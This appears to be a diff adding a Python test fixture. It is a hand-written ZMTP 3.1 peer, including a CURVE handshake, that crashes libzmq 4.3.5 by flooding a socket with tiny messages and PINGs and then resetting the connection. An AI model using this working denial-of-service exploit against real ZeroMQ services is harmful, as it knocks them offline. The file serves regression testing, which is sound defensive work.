@@ -1,0 +1,161 @@
+"""A hostile ZeroMQ peer that speaks ZMTP 3.1 by hand, for tests.
+
+libzmq 4.3.5 aborts the process (``Assertion failed: !_io_error
+(src/stream_engine_base.cpp:310)``) when a connection's input was stopped
+by a full receive queue with bytes still in its read buffer, the peer then
+resets the connection (the engine marks it failed and stops polling it),
+and the application drains its queue: the engine decodes the rest of the
+buffer, and a heartbeat ``PING`` in it makes the engine write its ``PONG``
+on the failed connection. Any peer can send PINGs, whatever the heartbeat
+options of the socket it talks to. :func:`flood_and_reset` does exactly
+that: many tiny messages with a PING between every few, then a reset
+(``SO_LINGER`` 0). Only to hosts and ports the caller gives (tests use
+127.0.0.1).
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import struct
+import time
+
+from nacl.public import Box, PrivateKey, PublicKey
+
+WAIT = 10.0
+
+# ZMTP 3.1 greeting: signature, version 3.1, mechanism NULL, as-server 0.
+GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"NULL".ljust(20, b"\0") + b"\0" + bytes(31)
+PING = b"\x04\x07\x04PING\x00\x00"  # command frame: name, TTL 0, no context
+
+
+def _command(name: bytes, body: bytes) -> bytes:
+    payload = bytes([len(name)]) + name + body
+    if len(payload) < 256:
+        return bytes([0x04, len(payload)]) + payload
+    return b"\x06" + struct.pack(">Q", len(payload)) + payload
+
+
+def _ready(socket_type: bytes) -> bytes:
+    prop = b"\x0bSocket-Type" + struct.pack(">I", len(socket_type)) + socket_type
+    return _command(b"READY", prop)
+
+
+def _flood(messages: int, ping_every: int) -> bytes:
+    """``messages`` one-byte messages with a PING after every ``ping_every``."""
+    one = b"\x00\x01x"  # a last frame, one byte long
+    block = one * ping_every + PING
+    return block * (messages // ping_every)
+
+
+def flood_and_reset(
+    host: str, port: int, messages: int = 200_000, ping_every: int = 3, timeout: float = WAIT
+) -> None:
+    """Connect to the ROUTER at ``host:port`` as a DEALER, send ``messages``
+    tiny messages with PINGs among them as fast as the peer takes them, and
+    reset the connection."""
+    sock = socket.create_connection((host, port), timeout=timeout)
+    try:
+        sock.sendall(GREETING + _ready(b"DEALER"))
+        sock.settimeout(timeout)
+        deadline = time.monotonic() + timeout
+        data = memoryview(_flood(messages, ping_every))
+        while data and time.monotonic() < deadline:
+            sent = sock.send(data[: 1 << 16])
+            data = data[sent:]
+    except OSError:
+        pass  # the peer may drop the connection first: nothing to reset then
+    finally:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        sock.close()
+
+
+class _CurveClient:
+    """The client side of a CURVE handshake (ZMTP 3.1, RFC 26) over a raw
+    socket, then MESSAGE commands sealed with the session's keys."""
+
+    def __init__(self, sock: socket.socket, server_public: bytes, client: PrivateKey) -> None:
+        self.sock, self.nonce = sock, 0
+        transient = PrivateKey.generate()
+        server = PublicKey(server_public)
+        sock.sendall(GREETING.replace(b"NULL".ljust(20, b"\0"), b"CURVE".ljust(20, b"\0")))
+        _exactly(sock, len(GREETING))
+        nonce = self._nonce(b"CurveZMQHELLO---")
+        hello = Box(transient, server).encrypt(bytes(64), nonce).ciphertext
+        body = b"\x01\x00" + bytes(72) + bytes(transient.public_key) + nonce[16:] + hello
+        sock.sendall(_command(b"HELLO", body))
+        welcome = _read_command(sock)
+        assert welcome.startswith(b"\x07WELCOME"), welcome[:16]
+        long_nonce = welcome[8:24]
+        opened = Box(transient, server).decrypt(welcome[24:], b"WELCOME-" + long_nonce)
+        server_transient, cookie = PublicKey(opened[:32]), opened[32:]
+        vouch_nonce = os.urandom(16)
+        vouch = Box(client, server_transient).encrypt(
+            bytes(transient.public_key) + server_public, b"VOUCH---" + vouch_nonce
+        )
+        metadata = b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
+        self.box = Box(transient, server_transient)
+        inner = bytes(client.public_key) + vouch_nonce + vouch.ciphertext + metadata
+        nonce = self._nonce(b"CurveZMQINITIATE")
+        initiate = self.box.encrypt(inner, nonce).ciphertext
+        sock.sendall(_command(b"INITIATE", cookie + nonce[16:] + initiate))
+        ready = _read_command(sock)
+        assert ready.startswith(b"\x05READY"), ready[:16]
+
+    def _nonce(self, prefix: bytes) -> bytes:
+        self.nonce += 1
+        return prefix + struct.pack(">Q", self.nonce)
+
+    def message(self, flags: int, payload: bytes) -> bytes:
+        """One MESSAGE frame: ``flags`` 0 (a last frame) or 2 (a command)."""
+        nonce = self._nonce(b"CurveZMQMESSAGEC")
+        sealed = self.box.encrypt(bytes([flags]) + payload, nonce).ciphertext
+        body = b"\x07MESSAGE" + nonce[16:] + sealed
+        return bytes([0x00, len(body)]) + body
+
+
+def _exactly(sock: socket.socket, size: int) -> bytes:
+    data = b""
+    while len(data) < size:
+        more = sock.recv(size - len(data))
+        if not more:
+            raise ConnectionError("the peer closed during the handshake")
+        data += more
+    return data
+
+
+def _read_command(sock: socket.socket) -> bytes:
+    flags = _exactly(sock, 1)[0]
+    size = struct.unpack(">Q", _exactly(sock, 8))[0] if flags & 0x02 else _exactly(sock, 1)[0]
+    return _exactly(sock, size)
+
+
+def curve_flood_and_reset(
+    host: str,
+    port: int,
+    server_public: bytes,
+    messages: int = 30_000,
+    ping_every: int = 3,
+    timeout: float = WAIT,
+) -> None:
+    """:func:`flood_and_reset` against a CURVE server (a node's gateway),
+    as a client with a fresh key; ``server_public`` is the server's 32-byte
+    public key (what the network key gives every member)."""
+    sock = socket.create_connection((host, port), timeout=timeout)
+    try:
+        client = _CurveClient(sock, server_public, PrivateKey.generate())
+        block = []
+        for i in range(messages):
+            block.append(client.message(0, b"x"))
+            if i % ping_every == ping_every - 1:
+                block.append(client.message(2, PING[2:]))
+        data = memoryview(b"".join(block))
+        deadline = time.monotonic() + timeout
+        while data and time.monotonic() < deadline:
+            sent = sock.send(data[: 1 << 16])
+            data = data[sent:]
+    except OSError:
+        pass
+    finally:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        sock.close()
